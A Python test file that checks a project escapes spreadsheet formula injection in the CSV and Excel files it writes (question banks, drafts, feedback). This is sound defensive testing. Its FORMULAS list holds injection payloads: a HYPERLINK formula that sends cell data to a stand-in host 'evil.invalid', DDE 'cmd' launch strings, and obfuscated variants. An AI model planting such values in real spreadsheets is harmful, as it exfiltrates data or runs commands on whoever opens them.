"""What a spreadsheet would run stays text in every table that is written: banks, drafts, feedback."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from assistant.answer import Turn
from assistant.records import Feedback, Place
from assistant.spreadsheet import neutralised, restored
from eval.bank import load_bank, write_bank
from eval.draft import draft_workbook
from eval.feedback import feedback_workbook
from eval.results import Gold, Question

FORMULAS = (
    '=HYPERLINK("http://evil.invalid/?"&A1,"open")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "'=1+1",
    "\uff1d1+1",
    "=\u202e1+1",
    "%0A=1",
    ";=1",
)
BEGINS = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def _safe(value: object) -> bool:
    text = str(value or "")
    return not text.startswith(BEGINS) and not text.lstrip().startswith(BEGINS)


def _questions() -> tuple[Question, ...]:
    return tuple(
        Question(
            id=f"{text.strip()}{at}",
            question=text,
            kind=text.strip(),
            facts=((text.strip(),),),
            evidence=(Gold(f"{text.strip()}.pdf", 1, text.strip()),),
            history=(Turn("=1"),),
            documents=(text.strip(),),
            note=text,
        )
        for at, text in enumerate(FORMULAS)
    )


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_comes_back_as_it_was_written(text: str) -> None:
    assert _safe(neutralised(text))
    assert restored(neutralised(text)) == text


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_banks(tmp_path: Path, form: str) -> None:
    path = tmp_path / f"bank.{form}"
    # Neither white space at the ends nor a bar in a place fits these two forms: write_bank refuses them.
    questions = [each for each in _questions() if each.question == each.question.strip(" \t\r\n")]
    questions = [each for each in questions if "|" not in each.question]
    assert len(questions) >= 6
    write_bank(questions, path)
    assert load_bank(path) == tuple(questions)
    for row in _rows(path):
        assert all(map(_safe, row)), row


def _rows(path: Path) -> list[list[object]]:
    if path.suffix == ".csv":
        return [list(row) for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig")))]
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink]
    return [[cell.value for cell in row] for sheet in book for row in sheet.iter_rows()]


def test_drafts(tmp_path: Path) -> None:
    draft_workbook(_questions(), tmp_path / "drafts.xlsx")
    for row in _rows(tmp_path / "drafts.xlsx"):
        assert all(map(_safe, row)), row


def test_feedback(tmp_path: Path) -> None:
    given = [
        Feedback(
            f"{at:016x}", "2026-01-02T03:04:05+00:00", text, text, (Turn(text, text),), True, text,
            (Place(f"{text}\x0b.pdf", 3, text),), "0001", "right" if at % 2 else "wrong", text, "en", text,
        )
        for at, text in enumerate((*FORMULAS, "\x1b[31m\x00\ufffe\ud800=1+1"))
    ]  # fmt: skip
    feedback_workbook(given, tmp_path / "feedback.xlsx")
    rows = _rows(tmp_path / "feedback.xlsx")
    assert len(rows) > len(given)
    for row in rows:
        assert all(map(_safe, row)), row
